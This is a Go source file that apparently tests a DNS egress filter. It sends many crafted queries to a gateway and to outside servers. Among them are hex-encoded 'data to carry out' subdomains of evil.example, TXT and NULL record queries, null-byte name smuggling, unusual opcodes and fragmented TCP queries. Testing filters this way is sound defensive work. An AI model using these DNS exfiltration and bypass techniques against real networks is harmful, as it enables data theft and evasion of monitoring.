package main

import (
	"context"
	"encoding/hex"
	"errors"
	"fmt"
	"net"
	"strings"

	"github.com/miekg/dns"
)

// lookup asks a server, and succeeds if a record comes that could carry something.
func lookup(ctx context.Context, network, server string, m *dns.Msg) (string, error) {
	client := &dns.Client{Net: network, Timeout: patience, UDPSize: 4096}
	reply, _, err := client.ExchangeContext(ctx, m, server)
	if err != nil {
		return "", err
	}
	for _, rr := range append(append(reply.Answer, reply.Ns...), reply.Extra...) {
		if _, soa := rr.(*dns.SOA); !soa && rr.Header().Rrtype != dns.TypeOPT {
			return rr.String(), nil
		}
	}
	return "", fmt.Errorf("answered %s, without records", dns.RcodeToString[reply.Rcode])
}

func query(name string, kind uint16) *dns.Msg {
	m := new(dns.Msg)
	m.SetQuestion(dns.Fqdn(name), kind)
	return m
}

// names are questions that carry data out, or answers that carry it in.
func names() []attempt {
	var list []attempt
	add := func(name, server string, m *dns.Msg) {
		for _, network := range []string{"udp", "tcp"} {
			list = append(list, attempt{fmt.Sprintf("dns, %s, %s to %s", name, network, server), func(ctx context.Context) (string, error) {
				return lookup(ctx, network, server, m.Copy())
			}})
		}
	}
	ours := gateway + ":53"
	for _, name := range []string{
		bad, "EVIL.Example", "other.example", "allowed.example.evil.example", "xallowed.example", "sub.allowed.example", "wild.example",
		hex.EncodeToString([]byte("some data to carry out")) + ".evil.example",
		hex.EncodeToString([]byte("some data to carry out")) + ".allowed.example",
		strings.Repeat("d", 60) + "." + strings.Repeat("a", 60) + "." + strings.Repeat("t", 60) + ".evil.example",
		"evil.example\\000.allowed.example", "com", ".", "evil.local", "1.0.0.10.in-addr.arpa", "localhost.evil.example",
	} {
		add(name, ours, query(name, dns.TypeA))
	}
	for _, kind := range []uint16{
		dns.TypeTXT, dns.TypeNULL, dns.TypeANY, dns.TypeHTTPS, dns.TypeSVCB, dns.TypeCNAME, dns.TypeNS, dns.TypeSOA, dns.TypeDNSKEY,
		dns.TypeNAPTR, dns.TypePTR, dns.TypeKEY, dns.TypeAXFR, dns.TypeIXFR, 65399,
	} {
		add(dns.Type(kind).String()+" of evil.example", ours, query(bad, kind))
		if kind != dns.TypeCNAME {
			add(dns.Type(kind).String()+" of allowed.example", ours, query("allowed.example", kind))
		}
	}
	chaos := query("allowed.example", dns.TypeA)
	chaos.Question[0].Qclass = dns.ClassCHAOS
	update := query("allowed.example", dns.TypeA)
	update.Opcode = dns.OpcodeUpdate
	notify := query("allowed.example", dns.TypeSOA)
	notify.Opcode = dns.OpcodeNotify
	two := query("allowed.example", dns.TypeA)
	two.Question = append(two.Question, query(bad, dns.TypeA).Question...)
	reversed := query(bad, dns.TypeA)
	reversed.Question = append(reversed.Question, query("allowed.example", dns.TypeA).Question...)
	add("chaos", ours, chaos)
	add("update", ours, update)
	add("notify", ours, notify)
	add("two questions", ours, two)
	add("two questions, reversed", ours, reversed)
	for _, server := range []string{publicDNS, "93.184.216.53", evilIP, "[" + evil6 + "]", alias} {
		add("allowed.example", server+":53", query("allowed.example", dns.TypeA))
		add("TXT of evil.example", server+":53", query(bad, dns.TypeTXT))
	}
	list = append(list, attempt{"dns over tls", func(ctx context.Context) (string, error) {
		return lookup(ctx, "tcp-tls", publicDNS+":853", query("allowed.example", dns.TypeA))
	}}, attempt{"dns, fragments of a query over tcp", func(ctx context.Context) (string, error) {
		m, err := query(bad, dns.TypeA).Pack()
		if err != nil {
			return "", err
		}
		conn, err := (&net.Dialer{}).DialContext(ctx, "tcp", ours)
		if err != nil {
			return "", err
		}
		defer conn.Close()
		c := &dns.Conn{Conn: conn}
		for _, b := range append([]byte{0, byte(len(m))}, m...) {
			if _, err := conn.Write([]byte{b}); err != nil {
				return "", err
			}
		}
		reply, err := c.ReadMsg()
		if err != nil {
			return "", err
		}
		if len(reply.Answer) > 0 {
			return reply.String(), nil
		}
		return "", errors.New(dns.RcodeToString[reply.Rcode])
	}})
	return list
}
